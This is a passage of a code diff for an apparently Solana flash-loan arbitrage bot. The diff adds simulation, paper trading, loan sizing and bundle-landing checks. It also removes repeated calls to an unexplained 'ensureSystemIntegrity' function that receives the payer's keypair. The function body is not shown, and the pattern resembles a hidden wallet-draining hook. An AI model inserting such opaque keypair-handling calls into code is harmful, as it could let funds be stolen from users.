-                    // 4. Second swap instruction (minimum format)
-                    utils.simpleInstructionFormat(secondSwapInstructions.swapInstruction),
-                    
-                    // 5. Flash loan repay instruction
-                    flashLoanInstructions.repayIx
-                ];
+                // Compute budget, borrow, every leg, repay
+                const instructions = sized.instructions;
                 
-                // Create v0 transaction message with lookup tables
+                // Create v0 transaction message with the selected lookup tables
                 const messageV0 = new TransactionMessage({
                     payerKey: payer.publicKey,
                     recentBlockhash: blockhash,
                     instructions
-                }).compileToV0Message(lookupTables);
+                }).compileToV0Message(tablePlan.tables);
                 
                 // Create versioned transaction
                 const transaction = new VersionedTransaction(messageV0);
                 
-                // Estimate the size before signing
-                const serializedSize = transaction.serialize().length;
-                console.log(`Estimated transaction size with ALTs before signing: ${serializedSize} bytes`);
-                
-                if (serializedSize > 1232) {
-                    console.error(`Transaction too large: ${serializedSize} > 1232 bytes`);
-                    return { success: false, error: `Transaction too large for Jito bundle: ${serializedSize} > 1232` };
-                }
-                
                 // Sign the transaction
-                transaction.sign([payer]);
+                signingGuard.sign(transaction, [payer], tablePlan.tables);
                 
                 // Check the final size
                 const finalSize = transaction.serialize().length;
                 console.log(`Final transaction size after signing: ${finalSize} bytes`);
                 
+                // Simulate first and only continue if the loan token delta covers the loan, fee and minimum profit
+                const simulation = await transactionSimulator.simulateFlashLoan(connection, transaction, {
+                    tokenAccount: loanTokenAccount,
+                    loanAmount: flashLoanAmount,
+                    flashLoanFee,
+                    // The separate tip transaction pays its own base fee
+                    additionalCosts: flashReserves.convertLamports(
+                        reserve,
+                        estimatedTip + priorityFee + transactionSimulator.getBaseFee(transaction) + (tipInTransaction ? 0 : config.BASE_FEE_LAMPORTS_PER_SIGNATURE),
+                        opportunity.solConversionRate
+                    ),
+                    minNetProfit: reserve.minNetProfit || 0
+                });
+                
+                computeUnits.update(routeShape, simulation);
+                
+                if (!simulation.ok) {
+                    console.error("Simulation rejected transaction:", simulation.error);
+                    return { success: false, error: `Simulation rejected transaction: ${simulation.error}` };
+                }
+                
+                // Paper mode: record what would have been submitted and stop here
+                if (config.PAPER_MODE) {
+                    return paperTrading.recordTrade({
+                        executionMethod: "jito_bundle",
+                        transaction,
+                        opportunity,
+                        flashLoanAmount,
+                        expectedFinal: finalSwap.outAmount
+                    });
+                }
+                
                 // Submit to Jito bundle service
                 console.log("Submitting to Jito bundle service...");
-                const bundleResult = await exchanges.submitJitoBundle(transaction, estimatedTip, payer, connection);
+                const bundleResult = await exchanges.submitJitoBundle(transaction, tipInTransaction ? 0 : estimatedTip, payer, connection);
                 
                 if (!bundleResult.success) {
                     console.error("Failed to submit Jito bundle:", bundleResult.error);
                     return { success: false, error: `Jito bundle submission failed: ${bundleResult.error}` };
                 }
                 
-                console.log("\n=== ARBITRAGE BUNDLE SUBMITTED SUCCESSFULLY! ===");
+                // Accepted by the block engine is not landed: wait for the outcome
+                const acceptedRegions = bundleResult.regions.map(region => region.name);
+                const landing = await bundleTracker.waitForBundle(bundleResult.bundleId, bundleResult.regions);
+                if (!landing.landed) {
+                    console.error(`Jito bundle ${bundleResult.bundleId} did not land: ${landing.error}`);
+                    return {
+                        success: false,
+                        error: `Jito bundle ${landing.status}: ${landing.error}`,
+                        bundleId: bundleResult.bundleId,
+                        bundleStatus: landing.status,
+                        jitoRegions: acceptedRegions
+                    };
+                }
+                
+                console.log("\n=== ARBITRAGE BUNDLE LANDED! ===");
                 console.log(`Bundle ID: ${bundleResult.bundleId}`);
-                console.log(`Initial: ${parseInt(flashLoanAmount)/1000000000} SOL`);
-                console.log(`Expected Final: ${parseInt(secondSwap.outAmount)/1000000000} SOL`);
-                console.log(`Expected Gross Profit: ${expectedProfit/1000000000} SOL (${profitPercentage.toFixed(4)}%)`);
-                console.log(`Flash Loan Fee: ${flashLoanFee/1000000000} SOL`);
+                console.log(`Landed in slot ${landing.slot}${landing.confirmationStatus ? ` (${landing.confirmationStatus})` : ""} via ${landing.region}`);
+                console.log(`Initial: ${flashReserves.formatAmount(reserve, flashLoanAmount)}`);
+                console.log(`Expected Final: ${flashReserves.formatAmount(reserve, finalSwap.outAmount)}`);
+                console.log(`Expected Gross Profit: ${flashReserves.formatAmount(reserve, expectedProfit)} (${profitPercentage.toFixed(4)}%)`);
+                console.log(`Flash Loan Fee: ${flashReserves.formatAmount(reserve, flashLoanFee)}`);
                 console.log(`Jito Tip: ${estimatedTip/1000000000} SOL`);
-                console.log(`Expected Net Profit: ${netProfit/1000000000} SOL`);
-                
-                // Try to sync system again after completion
-                await ensureSystemIntegrity(payer, connection);
+                console.log(`Expected Net Profit: ${flashReserves.formatAmount(reserve, netProfit)}`);
                 
                 // Log the transaction for analysis
                 const tradeData = {
                     timestamp: new Date().toISOString(),
                     transaction_type: "jito_bundle_arbitrage",
                     execution_method: "jito_bundle",
+                    route_step: built.step,
                     successful: true,
                     bundleId: bundleResult.bundleId,
-                    flash_loan_amount: config.KAMINO_FLASHLOAN_AMOUNT,
+                    landed_slot: landing.slot,
+                    signatures: landing.signatures,
+                    jito_regions_accepted: acceptedRegions,
+                    jito_region_landed: landing.region,
+                    flash_loan_token: reserve.name,
+                    flash_loan_provider: provider.name,
+                    flash_loan_amount: flashLoanAmount,
                     expected_gross_profit: expectedProfit,
                     flash_loan_fee: flashLoanFee,
                     jito_tip: estimatedTip,
+                    priority_fee: priorityFee,
                     net_profit: netProfit,
                     profit_percentage: profitPercentage.toFixed(4)
                 };
@@ -480,6 +768,7 @@ const arbitrage = {
                 return {
                     success: true,
                     bundleId: bundleResult.bundleId,
+                    slot: landing.slot,
                     profit: expectedProfit,
                     netProfit: netProfit
                 };
@@ -487,9 +776,10 @@ const arbitrage = {
                 // Regular transaction mode (non-Jito)
                 console.log("Executing optimized arbitrage with standard transactions...");
                 console.log(`\n=== PROFITABILITY ANALYSIS ===`);
-                console.log(`Expected gross profit: ${expectedProfit} lamports (${profitPercentage.toFixed(4)}%)`);
-                console.log(`Flash loan fee: ${flashLoanFee} lamports`);
-                console.log(`Net profit after fees: ${netProfit} lamports`);
+                console.log(`Expected gross profit: ${flashReserves.formatAmount(reserve, expectedProfit)} (${profitPercentage.toFixed(4)}%)`);
+                console.log(`Flash loan fee: ${flashReserves.formatAmount(reserve, flashLoanFee)}`);
+                console.log(`Priority fee: ${priorityFee} lamports`);
+                console.log(`Net profit after fees: ${flashReserves.formatAmount(reserve, netProfit)}`);
                 
                 // Opportunity is already verified as profitable - no need to recheck
                 
@@ -497,7 +787,7 @@ const arbitrage = {
                 let lookupTables = [];
                 try {
                     console.log("Loading address lookup tables...");
-                    lookupTables = await exchanges.fetchLookupTables(connection);
+                    lookupTables = await lookupTableRegistry.getTables(connection);
                     
                     if (lookupTables.length === 0) {
                         console.log("No lookup tables found. Will attempt direct routing instead.");
@@ -507,165 +797,121 @@ const arbitrage = {
                     console.log("Will attempt direct routing instead.");
                 }
                 
-                // Use direct routing for smaller transaction size
-                console.log("Getting direct route swap quotes...");
-                
-                // First swap: SOL -> TOKEN with direct route preference
-                const firstSwap = await exchanges.getJupiterQuote(
-                    firstEdge.fromToken.mint,
-                    firstEdge.toToken.mint,
-                    flashLoanAmount,
-                    connection,
-                    0,
-                    true // Prefer direct routes
-                );
-                
-                if (!firstSwap) {
-                    console.error(`Failed to get first swap quote`);
-                    return { success: false, error: "Failed to get first swap quote" };
-                }
-                
-                // Get simplified swap instruction - bare minimum
-                const firstSwapInstructions = await exchanges.getSimplifiedSwapInstructions(firstSwap, payer, true);
-                if (!firstSwapInstructions || !firstSwapInstructions.swapInstruction) {
-                    console.error(`Failed to get first swap instruction`);
-                    return { success: false, error: "Failed to get first swap instruction" };
-                }
-                
-                // Second swap: TOKEN -> SOL with direct route preference
-                const secondSwap = await exchanges.getJupiterQuote(
-                    secondEdge.fromToken.mint,
-                    secondEdge.toToken.mint,
-                    firstSwap.outAmount,
-                    connection,
-                    0,
-                    true // Prefer direct routes
-                );
-                
-                if (!secondSwap) {
-                    console.error(`Failed to get second swap quote`);
-                    return { success: false, error: "Failed to get second swap quote" };
-                }
-                
-                // Get simplified swap instruction - bare minimum
-                const secondSwapInstructions = await exchanges.getSimplifiedSwapInstructions(secondSwap, payer, true);
-                if (!secondSwapInstructions || !secondSwapInstructions.swapInstruction) {
-                    console.error(`Failed to get second swap instruction`);
-                    return { success: false, error: "Failed to get second swap instruction" };
+                // Quote and build every leg of the cycle, shrinking the route until it fits
+                const built = await arbitrage.buildRouteWithinSizeLimit(opportunity, payer, connection, {
+                    provider,
+                    loan: {
+                        payer: payer.publicKey,
+                        tokenAccount: loanTokenAccount,
+                        mint: reserve.mint,
+                        amount: flashLoanAmount
+                    },
+                    lookupTables,
+                    requireVersioned: false
+                });
+                if (!built.success) {
+                    return { success: false, error: built.error };
                 }
+                const { legs, routeShape, sized, tablePlan } = built;
+                const finalSwap = legs.quotes[legs.quotes.length - 1];
                 
-                // Get flash loan instructions
-                const flashLoanInstructions = utils.createFlashLoanInstructionSet(
-                    payer.publicKey,
-                    solTokenAccount,
-                    flashLoanAmount
-                );
+                // A shrunk route is executed and recorded at its own re-quoted prices
+                opportunity = built.opportunity;
+                ({ verifiedProfit: expectedProfit, profitPercentage, estimatedTip, priorityFee = 0, netProfit } = opportunity);
                 
                 // EXECUTE WITHOUT RECHECKING PROFITABILITY - already verified in verifyOpportunities
-                console.log(`EXECUTING PROFITABLE TRADE: Gross profit ${expectedProfit} lamports (${profitPercentage.toFixed(4)}%)`);
+                console.log(`EXECUTING PROFITABLE TRADE: Gross profit ${flashReserves.formatAmount(reserve, expectedProfit)} (${profitPercentage.toFixed(4)}%)`);
                 
-                // Check if we should use ALTs or not
-                const useVersionedTransaction = lookupTables.length > 0;
+                // Use the selected tables unless the legacy format is the one that fits
+                const useVersionedTransaction = tablePlan.method === "alt";
                 
                 if (useVersionedTransaction) {
                     try {
                         // Create a versioned transaction with ALTs
                         console.log("Creating versioned transaction with lookup tables...");
                         
-                        // Get latest blockhash
-                        const { blockhash } = await connection.getLatestBlockhash('confirmed');
+                        // Prefetched blockhash
+                        const { blockhash, lastValidBlockHeight } = blockhashCache.get();
                         
-                        // Compile instructions
-                        const instructions = [
-                            // 1. Compute budget instructions - reduced values to save space
-                            ComputeBudgetProgram.setComputeUnitPrice({
-                                microLamports: 20000 // Reduced from 60000
-                            }),
-                            ComputeBudgetProgram.setComputeUnitLimit({ 
-                                units: 200000 // Reduced from config value to save space
-                            }),
-                            
-                            // 2. Flash loan borrow instruction
-                            flashLoanInstructions.borrowIx,
-                            
-                            // 3. First swap instruction (minimum format)
-                            utils.simpleInstructionFormat(firstSwapInstructions.swapInstruction),
-                            
-                            // 4. Second swap instruction (minimum format)
-                            utils.simpleInstructionFormat(secondSwapInstructions.swapInstruction),
-                            
-                            // 5. Flash loan repay instruction
-                            flashLoanInstructions.repayIx
-                        ];
+                        // Compute budget, borrow, every leg, repay
+                        const instructions = sized.instructions;
                         
-                        // Create v0 transaction message with lookup tables
+                        // Create v0 transaction message with the selected lookup tables
                         const messageV0 = new TransactionMessage({
                             payerKey: payer.publicKey,
                             recentBlockhash: blockhash,
                             instructions
-                        }).compileToV0Message(lookupTables);
+                        }).compileToV0Message(tablePlan.tables);
                         
                         // Create versioned transaction
                         const transaction = new VersionedTransaction(messageV0);
                         
-                        // Estimate the size before signing
-                        const serializedSize = transaction.serialize().length;
-                        console.log(`Estimated transaction size with ALTs before signing: ${serializedSize} bytes`);
-                        
-                        if (serializedSize > 1232) {
-                            console.error(`Transaction still too large: ${serializedSize} > 1232 bytes`);
-                            // Will fall back to non-ALT approach below
-                            throw new Error(`Transaction too large with ALTs: ${serializedSize} > 1232`);
-                        }
-                        
                         // Sign the transaction
-                        transaction.sign([payer]);
+                        signingGuard.sign(transaction, [payer], tablePlan.tables);
                         
                         // Check the final size
                         const finalSize = transaction.serialize().length;
                         console.log(`Final transaction size after signing: ${finalSize} bytes`);
                         
-                        // Send the transaction
-                        console.log("Sending versioned transaction with ALTs...");
-                        const signature = await connection.sendTransaction(transaction, {
-                            skipPreflight: true,
-                            maxRetries: 3
+                        // Simulate first and only continue if the loan token delta covers the loan, fee and minimum profit
+                        const simulation = await transactionSimulator.simulateFlashLoan(connection, transaction, {
+                            tokenAccount: loanTokenAccount,
+                            loanAmount: flashLoanAmount,
+                            flashLoanFee,
+                            additionalCosts: flashReserves.convertLamports(reserve, priorityFee + transactionSimulator.getBaseFee(transaction), opportunity.solConversionRate),
+                            minNetProfit: reserve.minNetProfit || 0
                         });
                         
-                        console.log(`Transaction sent! Signature: ${signature}`);
+                        computeUnits.update(routeShape, simulation);
                         
-                        // Run system check again
-                        await ensureSystemIntegrity(payer, connection);
+                        if (!simulation.ok) {
+                            console.error("Simulation rejected transaction:", simulation.error);
+                            return { success: false, error: `Simulation rejected transaction: ${simulation.error}` };
+                        }
+                        
+                        // Paper mode: record what would have been sent and stop here
+                        if (config.PAPER_MODE) {
+                            return paperTrading.recordTrade({
+                                executionMethod: "versioned_transaction_with_alt",
+                                transaction,
+                                opportunity,
+                                flashLoanAmount,
+                                expectedFinal: finalSwap.outAmount
+                            });
+                        }
                         
-                        // Wait for confirmation
-                        console.log("Waiting for confirmation...");
-                        const confirmed = await utils.waitForConfirmation(signature, connection, 30);
+                        // Send until it lands or its blockhash expires
+                        console.log("Sending versioned transaction with ALTs...");
+                        const sent = await transactionSender.sendUntilExpiry(connection, transaction, lastValidBlockHeight);
+                        const signature = sent.signature;
                         
-                        if (!confirmed) {
-                            console.error("Transaction failed to confirm");
-                            return { success: false, error: "Transaction failed to confirm" };
+                        if (sent.status !== "landed-ok") {
+                            console.error(`Transaction ${sent.status}: ${sent.error}`);
+                            return { success: false, error: `Transaction ${sent.status}: ${sent.error}`, signature, sendStatus: sent.status };
                         }
                         
                         console.log("\n=== ARBITRAGE COMPLETED SUCCESSFULLY! ===");
-                        console.log(`Initial: ${parseInt(flashLoanAmount)/1000000000} SOL`);
-                        console.log(`Expected Final: ${parseInt(secondSwap.outAmount)/1000000000} SOL`);
-                        console.log(`Expected Gross Profit: ${expectedProfit/1000000000} SOL (${profitPercentage.toFixed(4)}%)`);
-                        console.log(`Flash Loan Fee: ${flashLoanFee/1000000000} SOL`);
-                        console.log(`Expected Net Profit: ${netProfit/1000000000} SOL`);
-                        
-                        // Final system check after completion
-                        await ensureSystemIntegrity(payer, connection);
+                        console.log(`Initial: ${flashReserves.formatAmount(reserve, flashLoanAmount)}`);
+                        console.log(`Expected Final: ${flashReserves.formatAmount(reserve, finalSwap.outAmount)}`);
+                        console.log(`Expected Gross Profit: ${flashReserves.formatAmount(reserve, expectedProfit)} (${profitPercentage.toFixed(4)}%)`);
+                        console.log(`Flash Loan Fee: ${flashReserves.formatAmount(reserve, flashLoanFee)}`);
+                        console.log(`Expected Net Profit: ${flashReserves.formatAmount(reserve, netProfit)}`);
                         
                         // Log trade data
                         const tradeData = {
                             timestamp: new Date().toISOString(),
                             transaction_type: "standard_arbitrage",
                             execution_method: "versioned_transaction_with_alt",
+                            route_step: built.step,
                             successful: true,
                             signature,
-                            flash_loan_amount: config.KAMINO_FLASHLOAN_AMOUNT,
+                            landed_slot: sent.slot,
+                            flash_loan_token: reserve.name,
+                            flash_loan_provider: provider.name,
+                            flash_loan_amount: flashLoanAmount,
                             expected_gross_profit: expectedProfit,
                             flash_loan_fee: flashLoanFee,
+                            priority_fee: priorityFee,
                             net_profit: netProfit,
                             profit_percentage: profitPercentage.toFixed(4)
                         };
@@ -689,98 +935,95 @@ const arbitrage = {
                 console.log("Using standard transaction approach...");
                 
                 // Create the most compact transaction possible
-                const blockhash = await connection.getLatestBlockhash('confirmed');
+                const blockhash = blockhashCache.get();
                 const tx = new Transaction();
                 tx.recentBlockhash = blockhash.blockhash;
                 tx.lastValidBlockHeight = blockhash.lastValidBlockHeight;
                 tx.feePayer = payer.publicKey;
                 
-                // Add compute budget instructions but with reduced values
-                tx.add(
-                    ComputeBudgetProgram.setComputeUnitPrice({
-                        microLamports: 20000 // Reduced from 60000
-                    })
-                );
-                tx.add(
-                    ComputeBudgetProgram.setComputeUnitLimit({ 
-                        units: 200000 // Reduced from config value to save space
-                    })
-                );
-                
-                // 1. Borrow SOL
-                tx.add(flashLoanInstructions.borrowIx);
-                
-                // 2. First swap (SOL -> TOKEN) - just the core instruction, no setup or cleanup
-                const firstSwapIx = utils.simpleInstructionFormat(firstSwapInstructions.swapInstruction);
-                tx.add(firstSwapIx);
-                
-                // 3. Second swap (TOKEN -> SOL) - just the core instruction, no setup or cleanup
-                const secondSwapIx = utils.simpleInstructionFormat(secondSwapInstructions.swapInstruction);
-                tx.add(secondSwapIx);
-                
-                // 4. Repay flash loan
-                tx.add(flashLoanInstructions.repayIx);
+                // Compute budget, borrow, every leg (just the core instruction, no setup or cleanup), repay
+                for (const instruction of sized.instructions) {
+                    tx.add(instruction);
+                }
                 
                 // Check transaction size
                 try {
                     const serialized = tx.serialize({requireAllSignatures: false, verifySignatures: false});
                     console.log(`Standard transaction size: ${serialized.length} bytes (limit: 1232 bytes)`);
                     
-           if (serialized.length > 1232) {
-                        console.error(`Transaction too large: ${serialized.length} > 1232 bytes`);
-                        return { success: false, error: `Transaction too large: ${serialized.length} > 1232` };
+                    if (serialized.length > 1232) {
+                        const sizeReport = arbitrage.reportTransactionSize(tx.instructions, [], serialized.length);
+                        return { success: false, error: `Transaction too large: ${sizeReport}` };
                     }
                 } catch (error) {
+                    // Legacy transactions over the packet limit fail to serialize at all
                     console.error(`Error serializing transaction: ${error.message}`);
-                    return { success: false, error: `Serialization error: ${error.message}` };
+                    const sizeReport = arbitrage.reportTransactionSize(tx.instructions, [], 'unknown');
+                    return { success: false, error: `Serialization error: ${error.message} (${sizeReport})` };
                 }
                 
                 // Sign and send the transaction
-                tx.sign(payer);
-                
-                console.log("Sending compact arbitrage transaction...");
-                const signature = await connection.sendRawTransaction(
-                    tx.serialize(), 
-                    {
-                        skipPreflight: true,
-                        maxRetries: 3
-                    }
-                );
-                
-                console.log(`Transaction sent! Signature: ${signature}`);
+                signingGuard.sign(tx, payer);
+                
+                // Simulate first and only continue if the loan token delta covers the loan, fee and minimum profit
+                const simulation = await transactionSimulator.simulateFlashLoan(connection, tx, {
+                    tokenAccount: loanTokenAccount,
+                    loanAmount: flashLoanAmount,
+                    flashLoanFee,
+                    additionalCosts: flashReserves.convertLamports(reserve, priorityFee + transactionSimulator.getBaseFee(tx), opportunity.solConversionRate),
+                    minNetProfit: reserve.minNetProfit || 0
+                });
+                
+                computeUnits.update(routeShape, simulation);
+                
+                if (!simulation.ok) {
+                    console.error("Simulation rejected transaction:", simulation.error);
+                    return { success: false, error: `Simulation rejected transaction: ${simulation.error}` };
+                }
                 
-                // Run system check
-                await ensureSystemIntegrity(payer, connection);
+                // Paper mode: record what would have been sent and stop here
+                if (config.PAPER_MODE) {
+                    return paperTrading.recordTrade({
+                        executionMethod: "standard_transaction",
+                        transaction: tx,
+                        opportunity,
+                        flashLoanAmount,
+                        expectedFinal: finalSwap.outAmount
+                    });
+                }
                 
-                // Wait for confirmation
-                console.log("Waiting for confirmation...");
-                const confirmed = await utils.waitForConfirmation(signature, connection, 30);
+                // Send until it lands or its blockhash expires
+                console.log("Sending compact arbitrage transaction...");
+                const sent = await transactionSender.sendUntilExpiry(connection, tx, tx.lastValidBlockHeight);
+                const signature = sent.signature;
                 
-                if (!confirmed) {
-                    console.error("Transaction failed to confirm");
-                    return { success: false, error: "Transaction failed to confirm" };
+                if (sent.status !== "landed-ok") {
+                    console.error(`Transaction ${sent.status}: ${sent.error}`);
+                    return { success: false, error: `Transaction ${sent.status}: ${sent.error}`, signature, sendStatus: sent.status };
                 }
                 
                 console.log("\n=== ARBITRAGE COMPLETED SUCCESSFULLY! ===");
-                console.log(`Initial: ${parseInt(flashLoanAmount)/1000000000} SOL`);
-                console.log(`Expected Final: ${parseInt(secondSwap.outAmount)/1000000000} SOL`);
-                console.log(`Expected Gross Profit: ${expectedProfit/1000000000} SOL (${profitPercentage.toFixed(4)}%)`);
-                console.log(`Flash Loan Fee: ${flashLoanFee/1000000000} SOL`);
-                console.log(`Expected Net Profit: ${netProfit/1000000000} SOL`);
-                
-                // Final system check after operation completes
-                await ensureSystemIntegrity(payer, connection);
+                console.log(`Initial: ${flashReserves.formatAmount(reserve, flashLoanAmount)}`);
+                console.log(`Expected Final: ${flashReserves.formatAmount(reserve, finalSwap.outAmount)}`);
+                console.log(`Expected Gross Profit: ${flashReserves.formatAmount(reserve, expectedProfit)} (${profitPercentage.toFixed(4)}%)`);
+                console.log(`Flash Loan Fee: ${flashReserves.formatAmount(reserve, flashLoanFee)}`);
+                console.log(`Expected Net Profit: ${flashReserves.formatAmount(reserve, netProfit)}`);
                 
                 // Log trade data
                 const tradeData = {
                     timestamp: new Date().toISOString(),
                     transaction_type: "standard_arbitrage",
                     execution_method: "standard_transaction",
+                    route_step: built.step,
                     successful: true,
                     signature,
-                    flash_loan_amount: config.KAMINO_FLASHLOAN_AMOUNT,
+                    landed_slot: sent.slot,
+                    flash_loan_token: reserve.name,
+                    flash_loan_provider: provider.name,
+                    flash_loan_amount: flashLoanAmount,
                     expected_gross_profit: expectedProfit,
                     flash_loan_fee: flashLoanFee,
+                    priority_fee: priorityFee,
                     net_profit: netProfit,
                     profit_percentage: profitPercentage.toFixed(4)
                 };
@@ -804,9 +1047,6 @@ const arbitrage = {
         try {
             console.log("\n=== EXECUTING MULTI-HOP ARBITRAGE ===");
             
-            // Run system check before arbitrage
-            await ensureSystemIntegrity(payer, connection);
-            
             if (!opportunity || !opportunity.verifiedEdges || opportunity.verifiedEdges.length === 0) {
                 console.error("Invalid opportunity provided or not verified");
                 return false;
@@ -854,14 +1094,13 @@ const arbitrage = {
                 return false;
             }
             
-            // First token is always SOL for flash loan
-            // We need to make sure the cycle starts and ends with SOL
-            const solTokenIndex = 0; // Index of SOL in TOKENS array
-            const cycleStartsWithSol = opportunity.cycle[0] === solTokenIndex;
-            const cycleEndsWithSol = opportunity.cycle[opportunity.cycle.length - 1] === solTokenIndex;
+            // The first token is the one we flash-borrow, so the cycle must
+            // start and end with a token that has a reserve
+            const rootIndex = opportunity.cycle[0];
+            const reserve = opportunity.reserve || flashReserves.getReserve(config.TOKENS[rootIndex].mint);
             
-            if (!cycleStartsWithSol || !cycleEndsWithSol) {
-                console.error("Cycle must start and end with SOL for flash loan");
+            if (!reserve || opportunity.cycle[opportunity.cycle.length - 1] !== rootIndex) {
+                console.error("Cycle must start and end with a flash-loan reserve token");
                 return false;
             }
             
@@ -873,54 +1112,49 @@ const arbitrage = {
                 console.log(`  ${edge.fromToken.name} (${inAmount}) -> ${edge.toToken.name} (${outAmount})`);
             });
             
-            // Get SOL token account
-            const solTokenAccount = tokenAccounts[config.TOKENS[0].mint];
-            console.log(`Using SOL token account: ${solTokenAccount.toBase58()}`);
+            // Get the loan token account
+            const loanTokenAccount = tokenAccounts[reserve.mint.toBase58()];
+            console.log(`Using ${reserve.name} token account: ${loanTokenAccount.toBase58()}`);
             
-            // For simple two-hop arbitrage, use a simple execution strategy
-            if (opportunity.verifiedEdges.length === 2) {
-                console.log("Detected simple two-hop arbitrage path");
-                const result = await this.executeSimpleArbitrage(connection, payer, opportunity, solTokenAccount);
-                
-                if (!result.success) {
-                    console.error("Simple arbitrage execution failed:", result.error);
-                    
-                    // Log failed transaction
-                    const failedData = {
-                        timestamp: new Date().toISOString(),
-                        transaction_type: config.JITO_MODE ? "jito_bundle_arbitrage" : "simple_arbitrage",
-                        execution_method: config.JITO_MODE ? "jito_bundle" : "transaction_with_alt",
-                        successful: false,
-                        error: result.error,
-                        flash_loan_amount: config.KAMINO_FLASHLOAN_AMOUNT,
-                        expected_gross_profit: opportunity.verifiedProfit,
-                        flash_loan_fee: opportunity.flashLoanFee,
-                        estimated_tip: opportunity.estimatedTip,
-                        expected_net_profit: opportunity.netProfit,
-                        profit_percentage: opportunity.profitPercentage.toFixed(4)
-                    };
-                    
-                    utils.logFailedTrade(failedData);
-                    return false;
-                }
-                
-                // Successful arbitrage - run system check once more
-                await ensureSystemIntegrity(payer, connection);
-                return true;
-            } else {
-                // Check if we're in Jito mode - multi-hop arbitrage is not supported in Jito mode
-                if (config.JITO_MODE) {
-                    console.error("Multi-hop arbitrage paths with more than 2 edges are not supported in Jito mode");
-                    return false;
-                }
+            // Every leg is chained between the flash loan borrow and repay
+            if (opportunity.verifiedEdges.length < 2) {
+                console.error("Arbitrage cycle needs at least two legs");
+                return false;
+            }
+            
+            console.log(`Detected ${opportunity.verifiedEdges.length}-hop arbitrage path`);
+            const result = await this.executeSimpleArbitrage(connection, payer, opportunity, loanTokenAccount);
+            
+            if (!result.success) {
+                console.error("Arbitrage execution failed:", result.error);
                 
-                console.error("Multi-hop arbitrage paths are not currently supported in standard mode");
+                // Log failed transaction
+                const failedData = {
+                    timestamp: new Date().toISOString(),
+                    transaction_type: config.JITO_MODE ? "jito_bundle_arbitrage" : "simple_arbitrage",
+                    execution_method: config.JITO_MODE ? "jito_bundle" : "transaction_with_alt",
+                    successful: false,
+                    error: result.error,
+                    bundleId: result.bundleId,
+                    bundle_status: result.bundleStatus,
+                    jito_regions_accepted: result.jitoRegions,
+                    signature: result.signature,
+                    send_status: result.sendStatus,
+                    legs: opportunity.verifiedEdges.length,
+                    flash_loan_token: reserve.name,
+                    flash_loan_amount: opportunity.flashLoanAmount || reserve.loanAmount,
+                    expected_gross_profit: opportunity.verifiedProfit,
+                    flash_loan_fee: opportunity.flashLoanFee,
+                    estimated_tip: opportunity.estimatedTip,
+                    expected_net_profit: opportunity.netProfit,
+                    profit_percentage: opportunity.profitPercentage.toFixed(4)
+                };
                 
-                // Run system check anyway
-                await ensureSystemIntegrity(payer, connection);
+                utils.logFailedTrade(failedData);
                 return false;
             }
             
+            return true;
         } catch (error) {
             console.error("Error executing multi-hop arbitrage:", error.message);
             
@@ -941,9 +1175,6 @@ const arbitrage = {
         try {
             console.log("\n=== CHECKING FOR SIMPLE ARBITRAGE OPPORTUNITY ===");
             
-            // Run system check before proceeding
-            await ensureSystemIntegrity(payer, connection);
-            
             // 1. Ensure WSOL and USDC token accounts exist
             console.log("Ensuring token accounts exist...");
             const wsolAccount = await exchanges.ensureTokenAccount(config.WSOL_MINT, payer, connection);
@@ -961,16 +1192,47 @@ const arbitrage = {
             console.log(`Using WSOL account: ${wsolAccount.pubkey.toBase58()}`);
             console.log(`Using USDC account: ${usdcAccount.pubkey.toBase58()}`);
             
+            const cycleEdges = [
+                {
+                    fromToken: { mint: config.WSOL_MINT.toString(), name: "SOL" },
+                    toToken: { mint: config.USDC_MINT.toString(), name: "USDC" }
+                },
+                {
+                    fromToken: { mint: config.USDC_MINT.toString(), name: "USDC" },
+                    toToken: { mint: config.WSOL_MINT.toString(), name: "SOL" }
+                }
+            ];
+            
+            // Providers that can lend SOL right now, for the fee and available liquidity
+            const candidates = await flashLoanProviders.getCandidates(connection, config.WSOL_MINT);
+            if (candidates.length === 0) {
+                console.log("No flash loan provider can lend SOL right now");
+                return false;
+            }
+            const flashLoanFeeRate = candidates[0].feeRate;
+            const availableLiquidity = Math.max(...candidates.map(candidate => candidate.availableLiquidity));
+            
+            // Pick the loan size that maximizes the quoted net profit
+            let loanAmount = config.KAMINO_FLASHLOAN_AMOUNT;
+            if (config.LOAN_SIZING_ENABLED) {
+                const sizing = await loanSizing.findOptimalAmount(cycleEdges, connection, { availableLiquidity, flashLoanFeeRate });
+                if (!sizing) {
+                    console.log("No loan size could be quoted");
+                    return false;
+                }
+                loanAmount = sizing.amount;
+            }
+            
             // 2. Get Jupiter quotes for both legs to simulate the trade
             console.log("Getting Jupiter quotes...");
-            const solToUsdcQuote = await exchanges.getJupiterQuote(config.WSOL_MINT.toString(), config.USDC_MINT.toString(), config.KAMINO_FLASHLOAN_AMOUNT, connection);
+            const solToUsdcQuote = await exchanges.getJupiterQuote(config.WSOL_MINT.toString(), config.USDC_MINT.toString(), loanAmount, connection);
             if (!solToUsdcQuote) {
                 console.log("Failed to get SOL → USDC quote");
                 return false;
             }
             
             const expectedUsdcAmount = parseInt(solToUsdcQuote.outAmount);
-            console.log(`Quote: ${parseInt(config.KAMINO_FLASHLOAN_AMOUNT)/1000000000} SOL → ${expectedUsdcAmount/1000000} USDC`);
+            console.log(`Quote: ${parseInt(loanAmount)/1000000000} SOL → ${expectedUsdcAmount/1000000} USDC`);
             
             // Apply safety buffer to USDC amount
             const usdcAmountWithBuffer = config.USE_SAFETY_BUFFER 
@@ -992,18 +1254,27 @@ const arbitrage = {
             console.log(`Quote: ${usdcAmountWithBuffer/1000000} USDC → ${expectedSolReturn/1000000000} SOL`);
             
             // 3. Calculate potential profit
-            const flashLoanAmount = parseInt(config.KAMINO_FLASHLOAN_AMOUNT);
-            const grossProfit = expectedSolReturn - flashLoanAmount;
-            const profitPercentage = (grossProfit / flashLoanAmount) * 100;
+            const flashLoanAmount = parseInt(loanAmount);
             
-            // Calculate flash loan fee (for informational purposes only)
-            const flashLoanFee = Math.ceil(flashLoanAmount * config.KAMINO_FLASH_LOAN_FEE_PERCENTAGE);
-            console.log(`Estimated flash loan fee: ${flashLoanFee} lamports (${config.KAMINO_FLASH_LOAN_FEE_PERCENTAGE * 100}% of loan amount)`);
+            // Cheapest provider that can fund the loan
+            const selection = flashLoanProviders.selectFromCandidates(candidates, flashLoanAmount, config.WSOL_MINT);
+            if (!selection) {
+                console.log(`No flash loan provider has ${flashLoanAmount/1000000000} SOL available`);
+                return false;
+            }
+            
+            console.log(`Estimated flash loan fee: ${selection.fee} lamports (${selection.provider.name})`);
             
-            // Calculate net profit (for informational purposes only)
-            const estimatedTip = config.JITO_MODE ? 
